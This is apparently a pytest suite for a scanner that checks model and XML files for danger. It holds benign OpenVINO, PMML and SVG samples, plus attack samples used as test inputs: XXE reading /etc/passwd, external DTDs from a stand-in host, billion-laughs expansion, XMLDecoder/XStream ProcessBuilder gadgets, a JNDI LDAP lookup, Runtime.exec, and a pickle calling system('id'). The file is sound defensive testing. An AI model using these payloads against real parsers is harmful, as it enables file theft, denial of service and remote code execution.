"""XML that fetches, grows or runs is found; graphs and models as converters write them pass."""

# ruff: noqa: E501  what is fed to the scan reads best as one line

from __future__ import annotations

from pathlib import Path

import pytest

from assay.core.report import Status
from fixtures.scanning import formats_of, found, scan, scan_bytes

IR = """<?xml version="1.0"?>
<net name="Model0" version="11"><layers>
<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/>
<output><port id="0" precision="FP32"><dim>1</dim><dim>3</dim></port></output></layer>
<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="3, 2" offset="0" size="24"/></layer>
<layer id="2" name="q" type="Const" version="opset1"><data element_type="u4" shape="3" offset="24" size="2"/></layer>
<layer id="6" name="e" type="Const" version="opset1"><data element_type="f32" shape="0, 3" offset="26" size="1"/></layer>
<layer id="3" name="m" type="MatMul" version="opset1"><data transpose_a="false" transpose_b="false"/></layer>
<layer id="4" name="t" type="BPETokenizer" version="extension"/>
<layer id="5" name="r" type="Result" version="opset1"/></layers>
<edges><edge from-layer="0" from-port="0" to-layer="3" to-port="0"/></edges><rt_info><a value="b"/></rt_info></net>
"""
PMML = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Application name="JPMML-SkLearn" version="1"/>
<Extension name="repr">PMMLPipeline(steps=[('classifier', LogisticRegression())])</Extension></Header>
<DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
<TransformationDictionary><DefineFunction name="half" optype="continuous"><ParameterField name="v"/>
<Apply function="/"><FieldRef field="v"/><Constant dataType="double">2</Constant></Apply></DefineFunction>
</TransformationDictionary><RegressionModel functionName="regression"><MiningSchema/>
<LocalTransformations><DerivedField name="y"><Apply function="half"><FieldRef field="x"/></Apply>
<Apply function="x-custom"/></DerivedField></LocalTransformations></RegressionModel></PMML>
"""
BENIGN = {
    "openvino_model.xml": IR,
    "model.pmml": PMML,
    "plain.xml": "<annotation><object><name>dog</name></object></annotation>",
    "image.svg": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]>'
    '<svg xmlns="&ns;"><path d="M0 0"/></svg>',
    "Info.plist": '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>',
    "page.html": "<!DOCTYPE html><html><script>render()</script></html>",
    "fragment.html": '<div><script>render()</script><a onclick="go()">x</a></div>',
    "latin.xml": '<?xml version="1.0" encoding="ISO-8859-1"?><a>b</a>',
    "README.md": "<div><b>Model</b></div>",
    "schema.xml": '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a"/></xs:schema>',
}


@pytest.mark.parametrize("name", BENIGN)
def test_ordinary_documents_pass(name: str, tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, name, BENIGN[name])
    assert (report.status, found(report)) == (Status.PASS, set()), report


LAUGHS = "".join(f"<!ENTITY e{i} '{f'&e{i - 1};' * 10}'>" for i in range(1, 10))
ATTACKS = {
    "external entity": (
        "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>", "xml/external-entity", "high"),
    "public entity": ("<!DOCTYPE a [<!ENTITY e PUBLIC 'p' 'http://x/y'>]><a/>", "xml/external-entity", "high"),
    "entity beside": ("<!DOCTYPE a [<!ENTITY e SYSTEM 'b.xml'>]><a/>", "xml/external-entity", "medium"),
    "long identifier": (
        f"<!DOCTYPE a [<!ENTITY e SYSTEM 'http://x/{'y' * 9000}'>]><a/>", "xml/external-entity", "high"),
    "parameter entity": (
        "<!DOCTYPE a [<!ENTITY % e SYSTEM 'http://x/y.dtd'> %e;]><a/>", "xml/external-entity", "high"),
    "external document type": ("<!DOCTYPE a SYSTEM 'http://x/y.dtd'><a/>", "xml/external-entity", "medium"),
    "billion laughs": (
        f"<!DOCTYPE a [<!ENTITY e0 'lol'>{LAUGHS}]><a>&e9;</a>", "xml/entity-expansion", "high"),
    "quadratic": (f"<!DOCTYPE a [<!ENTITY e '{'x' * (1 << 21)}'>]><a>&e;&e;</a>", "xml/entity-expansion", "high"),
    "inclusion": (
        "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'/></a>",
        "xml/external-entity", "high"),
    "style sheet": ("<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://x/y.xsl'?><a/>",
                    "xml/code", "medium"),
    "script": ("<PMML><script>evil()</script></PMML>", "xml/code", "high"),
    "script in an image": ("<svg><script>evil()</script></svg>", "xml/code", "medium"),
    "handler in an image": ("<svg onload='evil()'/>", "xml/code", "medium"),
    "XMLDecoder": ("<java version='1' class='java.beans.XMLDecoder'><object class='java.lang.ProcessBuilder'/></java>",
                   "xml/code", "critical"),
    "XStream": ("<set><java.lang.ProcessBuilder><command/></java.lang.ProcessBuilder></set>", "xml/code", "critical"),
    "look-up": ("<PMML><Constant>${jndi:ldap://x/a}</Constant></PMML>", "xml/code", "high"),
    "native library": ("<a><ext path='lib/evil.so'/></a>", "xml/code", "high"),
    "custom layer": (IR.replace('type="MatMul" version="opset1"', 'type="Evil" version="extension"'),
                     "openvino/custom-layer", "medium"),
    "python layer": (IR.replace('type="MatMul"', 'type="Python"'), "openvino/custom-layer", "medium"),
    "size below shape": (IR.replace('size="24"', 'size="4"'), "openvino/malformed", "high"),
    "negative offset": (IR.replace('offset="24"', 'offset="-24"'), "openvino/malformed", "high"),
    "offset that wraps": (IR.replace('offset="24"', 'offset="9223372036854775807"'), "openvino/malformed", "high"),
    "java class": (PMML.replace("x-custom", "java.lang.Runtime.exec"), "pmml/foreign-function", "high"),
    "foreign class": (PMML.replace("x-custom", "com.acme.Score"), "pmml/foreign-function", "medium"),
    "extension": (PMML.replace("PMMLPipeline(", "eval("), "xml/code", "medium"),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_attacks_are_found_in_every_encoding(name: str, encoding: str, tmp_path: Path) -> None:
    text, rule, severity = ATTACKS[name]
    report = scan_bytes(tmp_path, "model.xml", text.encode(encoding))
    assert (rule, severity) in found(report), report
    assert report.status is Status.FAIL


def test_xml_may_be_utf_16_without_a_mark(tmp_path: Path) -> None:
    text = "<?xml version='1.0' encoding='utf-16'?>" + ATTACKS["external entity"][0]
    for encoding in ("utf-16-le", "utf-16-be"):
        report = scan_bytes(tmp_path, "model.xml", text.encode(encoding))
        assert ("xml/external-entity", "high") in found(report)
    assert (
        scan_bytes(tmp_path, "a.xml", "<?xml version='1.0'?><a/>".encode("utf-16-le")).status is Status.PASS
    )


@pytest.mark.parametrize(
    "text",
    [
        "<?xml version='1.0' encoding='UTF-7'?><a>+ADw-</a>",
        "<?xml version='1.0' encoding='cp037'?><a/>",
        "<?xml version='1.0' encoding='nonsense'?><a/>",
        "<?xml version='1.0'?><a>",
        "<?xml version='1.0'?>" + "<a>" * 2000 + "</a>" * 2000,
        "<!DOCTYPE a [<!ENTITY % p 'x'> %p;]><a/>",
        "<!DOCTYPE a [",
    ],
)
def test_what_cannot_be_read_is_not_clean(text: str, tmp_path: Path) -> None:
    assert scan_bytes(tmp_path, "model.xml", text).status is Status.INCOMPLETE


def test_no_prefix_passes_as_xml(tmp_path: Path) -> None:
    for length in range(1, len(IR.rstrip()), 41):
        assert scan_bytes(tmp_path, "model.xml", IR[:length]).status is not Status.PASS, length


def test_findings_name_the_place_and_what_would_happen(tmp_path: Path) -> None:
    (finding,) = scan_bytes(tmp_path, "m.xml", ATTACKS["custom layer"][0]).findings
    assert (
        finding.message == "Layer 'm' is of the kind 'Evil' from 'extension', which OpenVINO does not define."
    )


WEIGHTS = b"\1\x80\xff\xfe" * 6 + b"\7\7\xfd"


def test_weights_beside_a_graph_are_what_its_constants_say(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "model.xml").write_text(IR)
    weights = folder / "model.bin"
    weights.write_bytes(WEIGHTS)
    assert (scan(folder).status, found(scan(folder))) == (Status.PASS, set())
    assert "numbers" in formats_of(scan(folder))
    weights.write_bytes(WEIGHTS + b"!")  # a byte of no constant
    assert scan(folder).status is Status.INCOMPLETE
    weights.write_bytes(WEIGHTS[:-2])
    assert found(scan(folder)) == {("graph/external-data-range", "high")}
    weights.write_bytes(b"cos\nsystem\n(S'id'\ntR.".ljust(len(WEIGHTS), b"\0"))
    assert ("pickle/dangerous-global", "critical") in found(scan(folder))


def test_weights_under_another_name_are_not_claimed(tmp_path: Path) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "model.xml").write_text(IR)
    (folder / "other.bin").write_bytes(WEIGHTS)
    assert scan(folder).status is Status.INCOMPLETE
